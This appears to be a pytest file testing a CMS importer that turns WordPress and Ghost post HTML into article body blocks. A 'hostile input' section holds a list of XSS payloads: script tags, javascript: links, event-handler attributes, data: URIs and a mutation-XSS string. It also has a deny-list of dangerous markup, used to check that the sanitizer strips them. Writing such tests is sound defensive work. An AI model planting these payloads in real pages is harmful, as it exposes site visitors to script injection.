"""Imported HTML to article body blocks: WordPress block and classic markup, Ghost, hostile input."""

# The realistic posts below are kept as WordPress writes them, one long line per element.
# ruff: noqa: E501

import pytest
from wagtail.images.models import Image

from masthead.newsroom.models import ArticlePage
from masthead.porting.classic import wpautop
from masthead.porting.content import html_to_blocks, html_to_text, plain_excerpt
from tests.newsroom.factories import make_article, make_image, make_section


def kinds(blocks):
    return [kind for kind, _ in blocks]


def flat(blocks) -> str:
    """Every string in the blocks, for "nothing hostile survives" checks."""
    parts = []
    for _, value in blocks:
        if isinstance(value, dict):
            parts.extend(str(v) for v in value.values() if not isinstance(v, Image))
        else:
            parts.append(str(value))
    return "\n".join(parts)


class Images:
    """An image_for that records its calls and returns a stored image for allowed URLs."""

    def __init__(self, *, refuse=()):
        self.calls = []
        self.refuse = set(refuse)
        self.made = {}

    def __call__(self, url, alt):
        self.calls.append((url, alt))
        if url in self.refuse:
            return None
        if url not in self.made:
            self.made[url] = make_image(title=alt or url)
        return self.made[url]


def assert_valid_body(blocks):
    """The blocks pass the article body's own validation (field limits, video URLs, required)."""
    # Through the field, not ArticlePage(): a page instance looks up its content type,
    # which needs the database that these tests do not ask for.
    field = ArticlePage._meta.get_field("body")
    field.stream_block.clean(field.to_python(blocks))


# ---------------------------------------------------------------- WordPress block markup


def test_wp_paragraph_keeps_bold_italic_and_safe_links_in_wagtail_format():
    blocks = html_to_blocks(
        '<!-- wp:paragraph -->\n<p class="has-text-align-center">A <strong>bold</strong>, '
        '<em>italic</em> <a href="https://example.org/x" target="_blank" rel="noopener">link</a>'
        "<sup>2</sup></p>\n<!-- /wp:paragraph -->"
    )
    assert blocks == [
        (
            "paragraph",
            '<p>A <b>bold</b>, <i>italic</i> <a href="https://example.org/x">link</a><sup>2</sup></p>',
        )
    ]


def test_wp_heading_levels_map_to_h2_and_h3():
    blocks = html_to_blocks(
        '<!-- wp:heading {"level":1} --><h1 class="wp-block-heading">Top</h1><!-- /wp:heading -->'
        '<!-- wp:heading --><h2 class="wp-block-heading">Second</h2><!-- /wp:heading -->'
        '<!-- wp:heading {"level":4} --><h4 class="wp-block-heading">Deep <em>one</em></h4>'
        "<!-- /wp:heading -->"
    )
    assert blocks == [
        ("heading", {"text": "Top", "level": "h2"}),
        ("heading", {"text": "Second", "level": "h2"}),
        ("heading", {"text": "Deep one", "level": "h3"}),
    ]


@pytest.mark.django_db
def test_wp_image_becomes_image_block_with_caption():
    images = Images()
    blocks = html_to_blocks(
        '<!-- wp:image {"id":42,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large">'
        '<a href="https://old.example/big.jpg"><img src="https://old.example/cat-1024x768.jpg" '
        'alt="A cat" class="wp-image-42"/></a><figcaption class="wp-element-caption">The '
        "<em>office</em> cat</figcaption></figure>\n<!-- /wp:image -->",
        image_for=images,
    )
    assert images.calls == [("https://old.example/cat-1024x768.jpg", "A cat")]
    image = images.made["https://old.example/cat-1024x768.jpg"]
    assert blocks == [("image", {"image": image, "caption": "The office cat", "credit": ""})]


def test_image_without_stored_copy_stays_as_link_to_original():
    warnings = []
    blocks = html_to_blocks(
        '<figure class="wp-block-image"><img src="https://old.example/gone.png" alt="Chart">'
        "<figcaption>Sales by year</figcaption></figure>",
        image_for=lambda url, alt: None,
        warnings=warnings,
    )
    assert blocks == [
        (
            "paragraph",
            '<p><a href="https://old.example/gone.png">Image: Chart</a><br>Sales by year</p>',
        )
    ]
    assert any("gone.png" in w for w in warnings)


@pytest.mark.django_db
def test_relative_and_lazy_loaded_image_sources_resolved():
    images = Images()
    html_to_blocks(
        '<p><img src="/wp-content/uploads/a.jpg" alt="a"></p>'
        '<p><img src="data:image/gif;base64,R0lGOD" data-lazy-src="https://old.example/b.jpg"></p>',
        image_for=images,
        base_url="https://old.example/blog/",
        autop=False,
    )
    assert [url for url, _ in images.calls] == [
        "https://old.example/wp-content/uploads/a.jpg",
        "https://old.example/b.jpg",
    ]


def test_wp_lists_nested_and_ordered_stay_lists():
    blocks = html_to_blocks(
        "<!-- wp:list -->\n<ul><!-- wp:list-item -->\n<li>One<!-- wp:list -->\n<ul>"
        "<!-- wp:list-item -->\n<li>One <strong>a</strong></li>\n<!-- /wp:list-item --></ul>\n"
        "<!-- /wp:list --></li>\n<!-- /wp:list-item -->\n<!-- wp:list-item -->\n<li>Two</li>\n"
        "<!-- /wp:list-item --></ul>\n<!-- /wp:list -->\n"
        '<!-- wp:list {"ordered":true} --><ol><li>First</li><li>Second</li></ol><!-- /wp:list -->'
    )
    assert blocks == [
        ("paragraph", "<ul><li>One<ul><li>One <b>a</b></li></ul></li><li>Two</li></ul>"),
        ("paragraph", "<ol><li>First</li><li>Second</li></ol>"),
    ]


def test_wp_quote_and_pullquote():
    blocks = html_to_blocks(
        '<!-- wp:quote --><blockquote class="wp-block-quote"><!-- wp:paragraph --><p>First line.'
        "</p><!-- /wp:paragraph --><!-- wp:paragraph --><p>Second line.</p><!-- /wp:paragraph -->"
        '<cite><a href="https://example.org/report">The Report</a></cite></blockquote>'
        "<!-- /wp:quote -->"
        '<!-- wp:pullquote --><figure class="wp-block-pullquote"><blockquote><p>Short and sharp.'
        "</p><cite>— Ada, mayor</cite></blockquote></figure><!-- /wp:pullquote -->"
    )
    assert blocks == [
        (
            "block_quote",
            {
                "quote": "First line.\n\nSecond line.",
                "citation": "The Report",
                "source_url": "https://example.org/report",
            },
        ),
        ("pull_quote", {"text": "Short and sharp.", "attribution": "Ada, mayor"}),
    ]


def test_long_pullquote_falls_back_to_block_quote():
    text = "word " * 100
    blocks = html_to_blocks(f'<blockquote class="wp-block-pullquote"><p>{text}</p></blockquote>')
    assert kinds(blocks) == ["block_quote"]
    assert blocks[0][1]["quote"] == text.strip()


@pytest.mark.parametrize(
    "url",
    [
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://youtu.be/dQw4w9WgXcQ",
        "https://youtube.com/shorts/dQw4w9WgXcQ",
        "https://m.youtube.com/watch?v=dQw4w9WgXcQ&t=10s",
        "https://www.youtube.com/embed/dQw4w9WgXcQ?feature=oembed",
    ],
)
def test_youtube_embed_in_any_form_becomes_video(url):
    blocks = html_to_blocks(
        f'<!-- wp:embed {{"url":"{url}","type":"video","providerNameSlug":"youtube"}} -->'
        '<figure class="wp-block-embed is-provider-youtube"><div class="wp-block-embed__wrapper">'
        f"\n{url}\n</div><figcaption>Watch it</figcaption></figure><!-- /wp:embed -->"
    )
    assert blocks == [
        (
            "video",
            {
                "url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
                "title": "YouTube video",
                "caption": "Watch it",
            },
        )
    ]
    assert_valid_body(blocks)


def test_old_core_embed_vimeo_block_becomes_video():
    blocks = html_to_blocks(
        '<!-- wp:core-embed/vimeo {"url":"https://vimeo.com/76979871"} --><figure class="wp-block'
        '-embed-vimeo"><div class="wp-block-embed__wrapper">https://vimeo.com/76979871</div>'
        "</figure><!-- /wp:core-embed/vimeo -->"
    )
    assert blocks == [
        ("video", {"url": "https://vimeo.com/76979871", "title": "Vimeo video", "caption": ""})
    ]


def test_other_embeds_become_links_never_iframes():
    warnings = []
    blocks = html_to_blocks(
        '<!-- wp:embed {"url":"https://twitter.com/a/status/1","providerNameSlug":"twitter"} -->'
        '<figure class="wp-block-embed"><div class="wp-block-embed__wrapper">'
        "https://twitter.com/a/status/1</div></figure><!-- /wp:embed -->"
        '<!-- wp:html --><iframe src="https://maps.example.com/embed?x=1" title="Map">'
        "</iframe><!-- /wp:html -->",
        warnings=warnings,
    )
    assert blocks == [
        (
            "paragraph",
            '<p><a href="https://twitter.com/a/status/1">https://twitter.com/a/status/1</a></p>',
        ),
        ("paragraph", '<p><a href="https://maps.example.com/embed?x=1">Map</a></p>'),
    ]
    assert "iframe" not in flat(blocks)
    assert len([w for w in warnings if "kept as a link" in w]) == 2


def test_self_hosted_video_kept_as_link_with_caption():
    blocks = html_to_blocks(
        '<!-- wp:video {"id":9} --><figure class="wp-block-video"><video controls '
        'src="https://old.example/clip.mp4"></video><figcaption>Our clip</figcaption></figure>'
        "<!-- /wp:video -->"
    )
    assert blocks == [
        (
            "paragraph",
            '<p><a href="https://old.example/clip.mp4">Video: clip.mp4</a><br>Our clip</p>',
        )
    ]


@pytest.mark.django_db
def test_wp_gallery_columns_separator_and_unknown_blocks():
    images = Images(refuse={"https://old.example/3.jpg"})
    warnings = []
    blocks = html_to_blocks(
        '<!-- wp:gallery {"linkTo":"none"} --><figure class="wp-block-gallery has-nested-images">'
        '<!-- wp:image {"id":1} --><figure class="wp-block-image"><img src="https://old.example/'
        '1.jpg" alt="One"/></figure><!-- /wp:image --><!-- wp:image {"id":2} --><figure class='
        '"wp-block-image"><img src="https://old.example/2.jpg" alt="Two"/><figcaption>Second'
        "</figcaption></figure><!-- /wp:image --></figure><!-- /wp:gallery -->"
        '<!-- wp:gallery --><ul class="blocks-gallery-grid"><li><figure><img src="https://old.'
        'example/3.jpg" alt="Three"></figure></li></ul><!-- /wp:gallery -->'
        '<!-- wp:separator --><hr class="wp-block-separator"/><!-- /wp:separator -->'
        '<!-- wp:columns --><div class="wp-block-columns"><!-- wp:column --><div class="wp-block-'
        'column"><!-- wp:heading --><h2>Left</h2><!-- /wp:heading --></div><!-- /wp:column -->'
        '<!-- wp:column --><div class="wp-block-column"><!-- wp:embed {"url":"https://youtu.be/'
        'dQw4w9WgXcQ"} --><figure class="wp-block-embed"><div class="wp-block-embed__wrapper">'
        "https://youtu.be/dQw4w9WgXcQ</div></figure><!-- /wp:embed --></div><!-- /wp:column -->"
        "</div><!-- /wp:columns -->"
        '<!-- wp:acme/fancy-box {"x":1} --><div class="fancy"><span>Box text</span></div>'
        "<!-- /wp:acme/fancy-box -->"
        '<!-- wp:latest-posts {"postsToShow":3} /-->'
        "<!-- wp:more --><!--more--><!-- /wp:more -->",
        image_for=images,
        warnings=warnings,
    )
    assert kinds(blocks) == ["image", "image", "paragraph", "heading", "video", "paragraph"]
    assert blocks[1][1]["caption"] == "Second"
    assert blocks[2] == ("paragraph", '<p><a href="https://old.example/3.jpg">Image: Three</a></p>')
    assert blocks[5] == ("paragraph", "<p>Box text</p>")
    assert any("latest-posts" in w for w in warnings)


def test_unclosed_and_stray_block_delimiters_lose_no_text():
    blocks = html_to_blocks(
        "<!-- /wp:paragraph --><!-- wp:paragraph --><p>Opened</p>"
        "<!-- wp:group --><div><p>Never closed</p></div>"
    )
    assert blocks == [("paragraph", "<p>Opened</p>"), ("paragraph", "<p>Never closed</p>")]


def test_freeform_html_between_blocks_is_autop_classic_text():
    blocks = html_to_blocks(
        "Classic first\nline\n\nClassic second\n"
        "<!-- wp:paragraph --><p>Block</p><!-- /wp:paragraph -->"
    )
    assert blocks == [
        ("paragraph", "<p>Classic first<br>line</p>"),
        ("paragraph", "<p>Classic second</p>"),
        ("paragraph", "<p>Block</p>"),
    ]


# ---------------------------------------------------------------- classic editor


def test_wpautop_paragraphs_line_breaks_and_block_elements():
    html = (
        "First paragraph\nwith a break.\n\n\nSecond <em>one</em>.\n<h3>Title</h3>\nAfter title"
        "\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<pre>keep\n\nthis</pre>"
    )
    out = wpautop(html)
    assert "<p>First paragraph<br>\nwith a break.</p>" in out
    assert "<p>Second <em>one</em>.</p>" in out
    assert "<p>After title</p>" in out
    assert "<pre>keep\n\nthis</pre>" in out
    assert "<p><h3>" not in out and "<p><ul>" not in out


def test_classic_post_blocks():
    blocks = html_to_blocks(
        "Para one\nline two\n\n<h2>Sub</h2>\n<blockquote>Someone said\nthis</blockquote>\n\n"
        "<ol>\n<li>x</li>\n<li>y</li>\n</ol>\n\nEnd."
    )
    assert blocks == [
        ("paragraph", "<p>Para one<br>line two</p>"),
        ("heading", {"text": "Sub", "level": "h2"}),
        ("block_quote", {"quote": "Someone said\nthis", "citation": "", "source_url": ""}),
        ("paragraph", "<ol><li>x</li><li>y</li></ol>"),
        ("paragraph", "<p>End.</p>"),
    ]


@pytest.mark.django_db
def test_caption_shortcode_becomes_image_with_caption():
    images = Images()
    blocks = html_to_blocks(
        'Intro.\n\n[caption id="attachment_7" align="alignright" width="300"]<a href="https://old.'
        'example/dog.jpg"><img class="size-medium wp-image-7" src="https://old.example/dog-300x200'
        '.jpg" alt="Dog" width="300" height="200" /></a> The <strong>good</strong> dog[/caption]'
        "\n\nOutro.",
        image_for=images,
    )
    assert kinds(blocks) == ["paragraph", "image", "paragraph"]
    assert blocks[1][1]["caption"] == "The good dog"
    assert images.calls == [("https://old.example/dog-300x200.jpg", "Dog")]


def test_embed_shortcode_and_bare_urls():
    blocks = html_to_blocks(
        'Look:\n\n[embed width="640"]https://vimeo.com/76979871[/embed]\n\n'
        "https://youtu.be/dQw4w9WgXcQ\n\nhttps://example.org/story\n\n"
        "See https://youtu.be/dQw4w9WgXcQ inline."
    )
    assert blocks == [
        ("paragraph", "<p>Look:</p>"),
        ("video", {"url": "https://vimeo.com/76979871", "title": "Vimeo video", "caption": ""}),
        (
            "video",
            {
                "url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
                "title": "YouTube video",
                "caption": "",
            },
        ),
        ("paragraph", '<p><a href="https://example.org/story">https://example.org/story</a></p>'),
        ("paragraph", "<p>See https://youtu.be/dQw4w9WgXcQ inline.</p>"),
    ]


def test_unknown_shortcodes_keep_text_and_warn_but_brackets_in_prose_stay():
    warnings = []
    blocks = html_to_blocks(
        'He said [sic] it, see [1].\n\n[su_box title="x"]Boxed text[/su_box]\n\n'
        '[gallery ids="1,2,3"]\n\n[[caption]] is how you write it.',
        warnings=warnings,
    )
    assert blocks == [
        ("paragraph", "<p>He said [sic] it, see [1].</p>"),
        ("paragraph", "<p>Boxed text</p>"),
        ("paragraph", "<p>[caption] is how you write it.</p>"),
    ]
    assert any("[su_box]" in w for w in warnings)
    assert any("[gallery]" in w for w in warnings)


# ---------------------------------------------------------------- Ghost


@pytest.mark.django_db
def test_ghost_cards():
    images = Images()
    warnings = []
    html = (
        '<p>Intro with <a href="https://ghost.example/other/">link</a>.</p>'
        '<figure class="kg-card kg-image-card kg-card-hascaption"><img src="https://ghost.example/'
        'content/images/2024/01/a.jpg" class="kg-image" alt="Alpha" loading="lazy" srcset="x 600w">'
        "<figcaption><span>Alpha caption</span></figcaption></figure>"
        '<figure class="kg-card kg-gallery-card kg-width-wide kg-card-hascaption"><div class="kg-'
        'gallery-container"><div class="kg-gallery-row"><div class="kg-gallery-image"><img src="'
        'https://ghost.example/g1.jpg" alt="G1"></div><div class="kg-gallery-image"><img src="'
        'https://ghost.example/g2.jpg" alt="G2"></div></div></div><figcaption>Gallery caption'
        "</figcaption></figure>"
        '<figure class="kg-card kg-embed-card"><iframe width="200" height="113" src="https://www.'
        'youtube.com/embed/dQw4w9WgXcQ?feature=oembed" title="Never Gonna"></iframe><figcaption>'
        "Classic</figcaption></figure>"
        '<figure class="kg-card kg-bookmark-card"><a class="kg-bookmark-container" href="https://'
        'news.example/story"><div class="kg-bookmark-content"><div class="kg-bookmark-title">Big '
        'story</div><div class="kg-bookmark-description">What happened</div></div><div class="kg-'
        'bookmark-thumbnail"><img src="https://news.example/t.jpg" alt=""></div></a></figure>'
        '<div class="kg-card kg-callout-card kg-callout-card-grey"><div class="kg-callout-emoji">'
        '💡</div><div class="kg-callout-text">Remember <b>this</b>.</div></div>'
        "<hr>"
        '<blockquote class="kg-blockquote-alt">Alt quote</blockquote>'
        "<blockquote><p>Plain quote</p></blockquote>"
        '<div class="kg-card kg-button-card"><a href="https://ghost.example/#/portal" class="kg-btn'
        ' kg-btn-accent">Subscribe</a></div>'
        "<h3>Ghost heading</h3><!--kg-card-begin: html--><div>Raw <i>html</i> card</div>"
        "<!--kg-card-end: html-->"
    )
    blocks = html_to_blocks(html, image_for=images, warnings=warnings, autop=False)
    assert kinds(blocks) == [
        "paragraph",
        "image",
        "image",
        "image",
        "video",
        "paragraph",
        "paragraph",
        "pull_quote",
        "block_quote",
        "paragraph",
        "heading",
        "paragraph",
    ]
    assert blocks[0] == (
        "paragraph",
        '<p>Intro with <a href="https://ghost.example/other/">link</a>.</p>',
    )
    assert blocks[1][1]["caption"] == "Alpha caption"
    assert [b[1]["caption"] for b in blocks[2:4]] == ["Gallery caption", ""]
    assert blocks[4] == (
        "video",
        {
            "url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "title": "Never Gonna",
            "caption": "Classic",
        },
    )
    assert blocks[5] == (
        "paragraph",
        '<p><a href="https://news.example/story">Big story</a><br>What happened</p>',
    )
    assert blocks[6] == ("paragraph", "<p>💡 Remember <b>this</b>.</p>")
    assert blocks[7] == ("pull_quote", {"text": "Alt quote", "attribution": ""})
    assert blocks[9] == (
        "paragraph",
        '<p><a href="https://ghost.example/#/portal">Subscribe</a></p>',
    )
    assert blocks[11] == ("paragraph", "<p>Raw <i>html</i> card</p>")
    assert_valid_body(blocks)


def test_ghost_html_is_not_autop_by_default():
    blocks = html_to_blocks("<p>One</p><p>Two\nstill two</p>")
    assert blocks == [("paragraph", "<p>One</p>"), ("paragraph", "<p>Two still two</p>")]


def test_embedded_tweet_becomes_block_quote_linking_to_it():
    blocks = html_to_blocks(
        '<figure class="kg-card kg-embed-card"><blockquote class="twitter-tweet"><p lang="en">'
        'Tweet text here</p>&mdash; Ada (@ada) <a href="https://twitter.com/ada/status/1">'
        'May 1, 2024</a></blockquote><script async src="https://platform.twitter.com/widgets.js">'
        "</script></figure>",
        autop=False,
    )
    assert blocks == [
        (
            "block_quote",
            {
                "quote": "Tweet text here",
                "citation": "Ada (@ada) May 1, 2024",
                "source_url": "https://twitter.com/ada/status/1",
            },
        )
    ]


# ---------------------------------------------------------------- tables, code, limits


def test_tables_and_code_become_rich_text_rows_and_lines():
    blocks = html_to_blocks(
        "<table><caption>Results</caption><tr><th>Party</th><th>Seats</th></tr>"
        '<tr><td><a href="https://example.org/a">A</a></td><td>12</td></tr></table>'
        "<pre><code>def f():\n    return 1 &lt; 2</code></pre>",
        autop=False,
    )
    assert blocks == [
        (
            "paragraph",
            '<p><b>Results</b><br>Party | Seats<br><a href="https://example.org/a">A</a> | 12</p>',
        ),
        ("paragraph", "<p>def f():<br>    return 1 &lt; 2</p>"),
    ]


def test_overlong_heading_and_caption_kept_within_block_limits():
    long = "Very long heading " * 20
    blocks = html_to_blocks(f"<h2>{long}</h2>")
    assert kinds(blocks) == ["paragraph"]
    assert long.strip() in blocks[0][1]
    assert_valid_body(blocks)


# ---------------------------------------------------------------- hostile input

HOSTILE = [
    "<p>Hi<script>alert('x')</script> there</p>",
    '<p><a href="javascript:alert(1)">click</a> <a href=" JaVaScRiPt:alert(1)">again</a></p>',
    '<p><img src="x" onerror="alert(1)">text</p>',
    '<p><svg onload="alert(1)"><text>svg</text></svg>after svg</p>',
    '<p><a href="data:text/html;base64,PHNjcmlwdD4=">data link</a></p>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="inline">',
    "<p><b><i>unclosed <a href='https://ok.example'>deep",
    '<div onclick="evil()"><p style="x" onmouseover="evil()">handlers</p></div>',
    "<style>p{display:none}</style><p>visible</p>",
    '<iframe src="javascript:alert(1)"></iframe><p>after frame</p>',
    '<object data="https://evil.example/x.swf"></object><embed src="javascript:alert(1)">',
    "<p>a</p></div></div><p>b</p><p <p>c",
    "<!-- wp:html --><img src=x onerror=alert(1)><script>alert(2)</script><!-- /wp:html -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><input name="p"><button formaction="javascript:x">'
    "Go</button></form>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_never_survives(markup):
    blocks = html_to_blocks(markup, image_for=lambda url, alt: None)
    text = flat(blocks).lower()
    for bad in (
        "<script",
        "javascript:",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "data:",
        "<svg",
        "<iframe",
        "<object",
        "<embed",
        "<style",
        "<img",
        "<form",
        "<input",
    ):
        assert bad not in text, (bad, blocks)
    assert_valid_body(blocks)


def test_hostile_markup_keeps_its_readable_text():
    blocks = html_to_blocks("".join(HOSTILE[:9]), image_for=lambda url, alt: None, autop=False)
    text = flat(blocks)
    for words in (
        "Hi",
        "there",
        "click",
        "again",
        "text",
        "after svg",
        "data link",
        "deep",
        "handlers",
        "visible",
    ):
        assert words in text
    assert "alert" not in text
    assert "display:none" not in text


# ---------------------------------------------------------------- text and excerpts


def test_html_to_text_and_plain_excerpt():
    html = (
        "<!-- wp:paragraph --><p>First &amp; <b>bold</b>.</p><!-- /wp:paragraph -->"
        "<!-- wp:list --><ul><li>one</li><li>two</li></ul><!-- /wp:list --><script>x()</script>"
    )
    assert html_to_text(html) == "First & bold.\n\n• one\n• two"
    assert html_to_text("A comment\nsecond line\n\nNew para <3") == (
        "A comment\nsecond line\n\nNew para <3"
    )
    assert html_to_text('[caption id="a"]<img src="x.jpg"> Dog[/caption] text') == "Dog text"
    assert plain_excerpt(html, 100) == "First & bold. • one • two"
    excerpt = plain_excerpt("<p>" + "lorem ipsum " * 30 + "</p>", 40)
    assert len(excerpt) <= 40 and excerpt.endswith("…") and excerpt.startswith("lorem ipsum")
    assert not excerpt[:-1].endswith(" ")


# ---------------------------------------------------------------- realistic posts, saved and shown

WP_BLOCK_POST = """<!-- wp:paragraph -->
<p>The council met on <strong>Tuesday</strong> to debate the <a href="https://city.example/budget">budget</a>.</p>
<!-- /wp:paragraph -->

<!-- wp:heading -->
<h2 class="wp-block-heading">What was decided</h2>
<!-- /wp:heading -->

<!-- wp:image {"id":101,"sizeSlug":"large","linkDestination":"none"} -->
<figure class="wp-block-image size-large"><img src="https://old.example/wp-content/uploads/2023/05/hall-1024x683.jpg" alt="The council hall" class="wp-image-101"/><figcaption class="wp-element-caption">The hall on Tuesday night</figcaption></figure>
<!-- /wp:image -->

<!-- wp:list -->
<ul><!-- wp:list-item -->
<li>Bus fares frozen</li>
<!-- /wp:list-item -->

<!-- wp:list-item -->
<li>Two new libraries</li>
<!-- /wp:list-item --></ul>
<!-- /wp:list -->

<!-- wp:pullquote -->
<figure class="wp-block-pullquote"><blockquote><p>We listened, and we acted.</p><cite>The mayor</cite></blockquote></figure>
<!-- /wp:pullquote -->

<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video","providerNameSlug":"youtube","responsive":true} -->
<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube"><div class="wp-block-embed__wrapper">
https://www.youtube.com/watch?v=dQw4w9WgXcQ
</div><figcaption class="wp-element-caption">The full session</figcaption></figure>
<!-- /wp:embed -->

<!-- wp:quote -->
<blockquote class="wp-block-quote"><!-- wp:paragraph -->
<p>The budget is balanced.</p>
<!-- /wp:paragraph --><cite>Finance report</cite></blockquote>
<!-- /wp:quote -->

<!-- wp:html -->
<div class="ad">Advertisement<script>track()</script></div>
<!-- /wp:html -->"""

CLASSIC_POST = """The storm arrived just after <em>midnight</em>.

[caption id="attachment_55" align="aligncenter" width="640"]<img class="size-large wp-image-55" src="https://old.example/wp-content/uploads/2019/storm.jpg" alt="Flooded street" width="640" height="480" /> Water on Main Street[/caption]

Residents said:
<blockquote>We have never seen it this bad.</blockquote>
<h3>Clean-up</h3>
Crews worked through the night.
Power returned by noon.

https://vimeo.com/76979871

&nbsp;"""

GHOST_POST = (
    "<p>Ghost intro.</p>"
    '<figure class="kg-card kg-image-card"><img src="https://ghost.example/content/images/a.jpg" '
    'class="kg-image" alt="A"></figure>'
    '<figure class="kg-card kg-bookmark-card"><a class="kg-bookmark-container" href="https://'
    'news.example/x"><div class="kg-bookmark-content"><div class="kg-bookmark-title">X</div>'
    "</div></a></figure>"
    '<blockquote class="kg-blockquote-alt">Pulled.</blockquote>'
)


@pytest.mark.django_db
def test_realistic_wordpress_block_post_blocks():
    images = Images()
    blocks = html_to_blocks(WP_BLOCK_POST, image_for=images)
    assert kinds(blocks) == [
        "paragraph",
        "heading",
        "image",
        "paragraph",
        "pull_quote",
        "video",
        "block_quote",
        "paragraph",
    ]
    assert blocks[3] == (
        "paragraph",
        "<ul><li>Bus fares frozen</li><li>Two new libraries</li></ul>",
    )
    assert blocks[7] == ("paragraph", "<p>Advertisement</p>")


@pytest.mark.django_db
def test_realistic_classic_post_blocks():
    images = Images()
    blocks = html_to_blocks(CLASSIC_POST, image_for=images)
    assert kinds(blocks) == [
        "paragraph",
        "image",
        "paragraph",
        "block_quote",
        "heading",
        "paragraph",
        "video",
    ]
    assert blocks[0] == ("paragraph", "<p>The storm arrived just after <i>midnight</i>.</p>")
    assert blocks[1][1]["caption"] == "Water on Main Street"
    assert blocks[4] == ("heading", {"text": "Clean-up", "level": "h3"})
    assert blocks[5] == (
        "paragraph",
        "<p>Crews worked through the night.<br>Power returned by noon.</p>",
    )


@pytest.mark.django_db
@pytest.mark.parametrize("source", [WP_BLOCK_POST, CLASSIC_POST, GHOST_POST, "".join(HOSTILE)])
def test_converted_posts_save_publish_and_render(client, source):
    blocks = html_to_blocks(source, image_for=Images())
    assert_valid_body(blocks)
    article = make_article(section=make_section("Imported"), title="Imported post", body=blocks)
    article = ArticlePage.objects.get(pk=article.pk)
    assert article.live
    assert [b.block_type for b in article.body] == kinds(blocks)
    response = client.get(article.url)
    assert response.status_code == 200
    page = response.content.decode()
    body_start = page.index("Imported post")
    shown = page[body_start:]
    assert "alert(" not in shown and "track()" not in shown
    if source is WP_BLOCK_POST:
        assert "Two new libraries" in shown and "We listened, and we acted." in shown
        assert "youtube-nocookie.com/embed/dQw4w9WgXcQ" in shown
    if source is CLASSIC_POST:
        assert "Power returned by noon." in shown and "Water on Main Street" in shown
